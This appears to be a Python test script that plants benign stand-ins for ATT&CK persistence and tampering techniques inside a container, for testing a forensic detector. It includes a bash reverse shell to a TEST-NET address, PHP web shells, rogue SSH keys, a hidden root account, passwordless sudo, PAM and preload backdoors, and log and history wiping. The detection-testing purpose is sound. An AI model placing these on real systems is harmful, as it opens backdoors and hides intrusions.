"""Planted changes over ATT&CK techniques, all benign.  Runs in the container; ``truth.yaml`` says of each id what must be found.

No planted program is run but copies of busybox: as ``sleep``, and one as a web server that nobody asks anything.
Addresses are of TEST-NET-1 (RFC 5737).
"""

from __future__ import annotations

import os
import stat
import struct
import subprocess

from tests.corpus.inside.common import content, noise

PLANTS = {}
"""By id, in the order in which they are planted: what changes how programs start comes last."""
LIBRARIES = next(path for path in ("/usr/lib/x86_64-linux-gnu", "/usr/lib/aarch64-linux-gnu") if os.path.isdir(path))
BUSYBOX = "/bin/busybox"
ADDRESS = "192.0.2.66"


def plant(function):
    PLANTS[function.__name__.replace("_", "-")] = function
    return function


def write(path, data, mode=0o644, owner=0):
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "wb") as file:
        file.write(data)
    os.chmod(path, mode)
    if owner:
        os.chown(path, owner, owner)


def append(path, data):
    with open(path, "ab") as file:
        file.write(data)


def patch(path, offset, data):
    """Other bytes in the place of some: same inode, same size, same times."""
    info = os.stat(path)
    with open(path, "r+b") as file:
        file.seek(offset)
        file.write(data)
    os.utime(path, ns=(info.st_atime_ns, info.st_mtime_ns))


def copy(source, target, mode=0o755):
    os.makedirs(os.path.dirname(target), exist_ok=True)
    with open(target, "wb") as file:
        file.write(content(source))
    os.chmod(target, mode)


def replace_in(path, old, new):
    data = content(path)
    assert old in data, path
    with open(path, "wb") as file:
        file.write(data.replace(old, new))


def spawn(path, *argv):
    """A process of its own session; returns once it runs its program."""
    reading, writing = os.pipe2(os.O_CLOEXEC)
    child = os.fork()
    if child == 0:
        os.setsid()
        if os.fork() == 0:
            empty = os.open("/dev/null", os.O_RDWR)
            for one in range(3):
                os.dup2(empty, one)
            os.chdir("/")
            os.execv(path, argv)
        os._exit(0)
    os.close(writing)
    os.waitpid(child, 0)
    os.read(reading, 1)
    os.close(reading)


SLEEP = ("busybox", "sleep", "86400")


# Programs
@plant
def swapped_same_size_and_time():
    patch("/usr/bin/tac", 0x400, b"irkit corpus")


@plant
def swapped_library():
    patch(f"{LIBRARIES}/libBrokenLocale.so.1", 0x300, b"irkit corpus")


@plant
def swapped_by_another():
    copy("/usr/bin/sleep", "/usr/bin/cksum.new")
    os.rename("/usr/bin/cksum.new", "/usr/bin/cksum")


@plant
def replaced_applet_link():
    copy(BUSYBOX, "/usr/local/bin/vi.new")
    os.rename("/usr/local/bin/vi.new", "/usr/local/bin/vi")


@plant
def setuid_copy():
    copy("/usr/bin/dash", "/usr/local/bin/netstat-helper", 0o4755)


@plant
def setuid_set():
    os.chmod("/usr/bin/env", 0o4755)


@plant
def setgid_set():
    os.chmod("/usr/bin/expr", 0o2755)


@plant
def setuid_hard_link():
    os.makedirs("/usr/local/lib/helpers")
    os.link("/usr/bin/su", "/usr/local/lib/helpers/maint")


@plant
def file_capability():
    # struct vfs_cap_data, version 2: effective, permitted cap_setuid (capabilities(7), linux/capability.h)
    os.setxattr("/usr/bin/nice", "security.capability", struct.pack("<IIIII", 0x02000001, 1 << 7, 0, 0, 0))


@plant
def renamed_busybox():
    copy(BUSYBOX, "/usr/local/bin/kworkerd")


@plant
def packed_program():
    data = bytearray(content(BUSYBOX))
    (table,) = struct.unpack_from("<Q", data, 32)
    size, count = struct.unpack_from("<HH", data, 54)
    start = table + size * count
    struct.pack_into("<Q", data, 40, 0)  # no section headers
    struct.pack_into("<HHH", data, 58, 0, 0, 0)
    data[start : start + 12] = b"\0\0\0\0UPX!\x0d\x16\x02\x0a"
    data[4096:] = noise("packed", len(data) - 4096)
    write("/usr/local/bin/cachectl", bytes(data), 0o755)


@plant
def foreign_program():
    data = bytearray(content("/usr/bin/sleep"))
    struct.pack_into("<H", data, 18, 0xB7)  # EM_AARCH64
    write("/opt/app/bin/agent", bytes(data), 0o755)


@plant
def moved_program():
    os.makedirs("/usr/local/share/misc")
    os.rename("/usr/bin/shred", "/usr/local/share/misc/wiper")


@plant
def world_writable_program():
    os.chmod("/usr/bin/fold", 0o777)


@plant
def dropped_in_tmp():
    copy("/usr/bin/sleep", "/tmp/.font-unix/fontd")


@plant
def hidden_folder():
    write("/usr/share/.X11-cache/run.sh", b"#!/bin/sh\nexec sleep 1\n", 0o755)


@plant
def blank_name():
    write("/var/tmp/ /.. /loader", content("/usr/bin/sleep"), 0o755)


@plant
def double_extension():
    write("/home/app/invoice.pdf.sh", b"#!/bin/sh\nexec sleep 1\n", 0o755, 1000)


@plant
def reverse_shell_text():
    write("/opt/app/bin/health", f"#!/bin/bash\nbash -i >& /dev/tcp/{ADDRESS}/4444 0>&1\n".encode(), 0o755)


@plant
def miner_configuration():
    write("/opt/app/etc/pool.json", b'{"url": "stratum+tcp://pool.invalid:3333", "user": "wallet", "algo": "rx/0"}\n')


@plant
def kernel_module():
    write(
        "/lib/modules/extra/netfilter_helper.ko",
        b"\x7fELF\x02\x01\x01" + bytes(9) + struct.pack("<HH", 1, 62) + bytes(60) + b"vermagic=x\0",
    )


# Persistence
@plant
def cron_folder():
    write("/etc/cron.d/sysstat-collect", b"*/5 * * * * root /usr/local/bin/kworkerd sleep 1\n")


@plant
def cron_of_a_user():
    write("/var/spool/cron/crontabs/www-data", b"@hourly /usr/bin/true\n", 0o600, 33)


@plant
def cron_daily_script():
    write("/etc/cron.daily/apt-clean", b"#!/bin/sh\nexec true\n", 0o755)


@plant
def at_job():
    write("/var/spool/cron/atjobs/a0000101c0ffee", b"#!/bin/sh\ntrue\n", 0o700)


@plant
def authorized_key():
    append(
        "/root/.ssh/authorized_keys",
        b"ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIB8eHRwbGhkYFxYVFBMSERAPDg0MCwoJCAcGBQQDAgEA x@y\n",
    )


@plant
def authorized_keys_of_a_service():
    write(
        "/var/www/.ssh/authorized_keys",
        b"ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIB8eHRwbGhkYFxYVFBMSERAPDg0MCwoJCAcGBQQDAgEA x@y\n",
        0o600,
        33,
    )


@plant
def sshd_weakened():
    replace_in("/etc/ssh/sshd_config", b"PermitRootLogin no", b"PermitRootLogin yes")


@plant
def systemd_service():
    write(
        "/etc/systemd/system/dbus-helper.service",
        b"[Service]\nExecStart=/usr/local/bin/kworkerd sleep 1\nRestart=always\n",
    )


@plant
def systemd_timer():
    write("/etc/systemd/system/dbus-helper.timer", b"[Timer]\nOnBootSec=5min\nOnUnitActiveSec=5min\n")


@plant
def rc_local():
    write("/etc/rc.local", b"#!/bin/sh\nexit 0\n", 0o755)


@plant
def init_script():
    write("/etc/init.d/netcfg", b"#!/bin/sh\nexit 0\n", 0o755)


@plant
def profile_line():
    append("/etc/profile", b"\n[ -x /usr/local/bin/kworkerd ] && true # start\n")


@plant
def bashrc_line():
    append("/root/.bashrc", b"\nalias sudo='sudo '\n")


@plant
def motd_script():
    write("/etc/update-motd.d/10-help-text", b"#!/bin/sh\ntrue\n", 0o755)


@plant
def udev_rule():
    write("/etc/udev/rules.d/75-net.rules", b'SUBSYSTEM=="net", RUN+="/bin/true"\n')


@plant
def python_startup():
    write("/usr/lib/python3/dist-packages/zz-paths.pth", b"import sys\n")


@plant
def git_hook():
    write("/srv/www/.git/hooks/post-checkout", b"#!/bin/sh\nexit 0\n", 0o755)


@plant
def package_hook():
    write("/etc/apt/apt.conf.d/99-post", b'APT::Update::Post-Invoke {"/bin/true";};\n')


@plant
def package_source():
    write("/etc/apt/sources.list.d/extra.list", f"deb [trusted=yes] http://{ADDRESS}/debian ./\n".encode())


@plant
def certificate_authority():
    block = b"-----BEGIN CERTIFICATE-----\nMIIB" + b"B" * 60 + b"\n-----END CERTIFICATE-----\n"
    write("/usr/local/share/ca-certificates/corp.crt", block)
    append("/etc/ssl/certs/ca-certificates.crt", block)


@plant
def library_folder():
    write("/etc/ld.so.conf.d/00-local.conf", b"/var/tmp/lib\n")


@plant
def pam_permit():
    append("/etc/pam.d/common-auth", b"auth sufficient pam_permit.so\n")


@plant
def pam_module():
    copy(f"{LIBRARIES}/security/pam_permit.so", f"{LIBRARIES}/security/pam_unix_cache.so", 0o644)


# Accounts and rights
@plant
def second_superuser():
    append("/etc/passwd", b"sysadm:x:0:0::/root:/bin/bash\n")
    append("/etc/shadow", b"sysadm:!:19600:0:99999:7:::\n")


@plant
def shell_for_service():
    replace_in(
        "/etc/passwd",
        b"www-data:x:33:33:www-data:/var/www:/usr/sbin/nologin",
        b"www-data:x:33:33:www-data:/var/www:/bin/bash",
    )


@plant
def empty_password():
    replace_in("/etc/shadow", b"\ngames:*:", b"\ngames::")


@plant
def added_to_sudo_group():
    replace_in("/etc/group", b"\nsudo:x:27:\n", b"\nsudo:x:27:app\n")


@plant
def sudo_without_password():
    write("/etc/sudoers.d/90-app", b"app ALL=(ALL) NOPASSWD: ALL\n", 0o440)


@plant
def owner_only():
    os.chown("/etc/login.defs", 1000, 1000)


@plant
def mode_only():
    os.chmod("/etc/security/limits.conf", 0o666)


@plant
def acl_only():
    # posix_acl_xattr.h: user::rw, user:1000:r, group::r, mask::r, other::- leaves the mode as it is (0640)
    entries = ((1, 6, 0xFFFFFFFF), (2, 4, 1000), (4, 4, 0xFFFFFFFF), (0x10, 4, 0xFFFFFFFF), (0x20, 0, 0xFFFFFFFF))
    os.setxattr(
        "/etc/gshadow",
        "system.posix_acl_access",
        struct.pack("<I", 2) + b"".join(struct.pack("<HHI", *one) for one in entries),
    )


@plant
def attribute_only():
    os.setxattr("/usr/share/base-files/motd", "user.note", noise("attribute", 64))


@plant
def device_node():
    os.mknod("/usr/local/lib/disk0", 0o660 | stat.S_IFBLK, os.makedev(8, 0))


# Web
@plant
def web_shell():
    write("/srv/www/uploads/thumb.php", b"<?php @eval(base64_decode($_POST['q'])); ?>\n", owner=33)


@plant
def web_shell_in_a_page():
    append("/srv/www/page7.php", b"if (isset($_GET['c'])) { system($_GET['c']); }\n")


@plant
def web_prepend():
    write("/srv/www/.user.ini", b"auto_prepend_file=uploads/photo-1.jpg\n", owner=33)


# Traces
@plant
def older_than_the_image():
    write("/usr/local/bin/diskstat", b"#!/bin/sh\nexec true\n", 0o755)
    os.utime("/usr/local/bin/diskstat", (1_500_000_000, 1_500_000_000))


@plant
def time_in_the_future():
    os.utime("/opt/app/lib/core.so", (2_100_000_000, 2_100_000_000))


@plant
def log_emptied():
    os.truncate("/var/log/auth.log", 0)


@plant
def log_lines_cut():
    lines = content("/var/log/app/app.log").splitlines(keepends=True)
    with open("/var/log/app/app.log", "wb") as file:
        file.writelines(lines[:20] + lines[60:])


@plant
def login_records_zeroed():
    with open("/var/log/wtmp", "r+b") as file:
        file.seek(384 * 5)
        file.write(bytes(384 * 3))


@plant
def log_deleted():
    os.unlink("/var/log/app/audit.log")


@plant
def history_to_nowhere():
    os.unlink("/root/.bash_history")
    os.symlink("/dev/null", "/root/.bash_history")


@plant
def link_retargeted():
    os.unlink("/usr/local/bin/report")
    os.symlink("/var/tmp/report", "/usr/local/bin/report")


@plant
def opaque_over_full():
    for name in os.listdir("/srv/archive/2023"):
        os.unlink(f"/srv/archive/2023/{name}")
    os.rmdir("/srv/archive/2023")
    write("/srv/archive/2023/README", b"pay\n")


@plant
def security_tool_removed():
    subprocess.run(["dpkg", "--purge", "rkhunter"], check=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)


@plant
def package_downgraded():
    argv = ["dpkg", "--force-downgrade", "-i", "/var/cache/apt/archives/irkit-corpus-ssl_1.0_all.deb"]
    subprocess.run(argv, check=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)


# Memory, volumes, processes
@plant
def shared_memory_payload():
    copy(BUSYBOX, "/dev/shm/.x")
    spawn("/dev/shm/.x", *SLEEP)


@plant
def run_folder_program():
    copy("/usr/bin/sleep", "/run/app/.w")


@plant
def volume_program():
    copy("/usr/bin/sleep", "/var/lib/app/.plugins/loader")


@plant
def deleted_program_runs():
    copy(BUSYBOX, "/usr/local/sbin/updated")
    spawn("/usr/local/sbin/updated", *SLEEP)
    os.unlink("/usr/local/sbin/updated")


@plant
def memory_only_program():
    held = os.memfd_create("corpus")
    with open(held, "wb", closefd=False) as file:
        file.write(content(BUSYBOX))
    spawn(f"/proc/self/fd/{held}", *SLEEP)
    os.close(held)


@plant
def unannounced_port():
    spawn(BUSYBOX, "busybox", "httpd", "-f", "-p", "31337", "-h", "/var/empty")


@plant
def hosts_entry():
    append("/etc/hosts", f"{ADDRESS}\tdeb.debian.org\n".encode())


@plant
def preload():
    copy(f"{LIBRARIES}/libutil.so.1", "/usr/local/lib/libsystem.so", 0o644)
    write("/etc/ld.so.preload", b"/usr/local/lib/libsystem.so\n")


os.umask(0o022)
os.makedirs("/var/empty", exist_ok=True)
planted = []
for name, function in PLANTS.items():
    try:
        function()
    except PermissionError as error:
        if name != "device-node":  # in a user namespace the kernel makes none: the attack is none there either
            raise SystemExit(f"{name}: {error!r}") from error
    except Exception as error:
        raise SystemExit(f"{name}: {error!r}") from error
    else:
        planted.append(name)
print(planted)
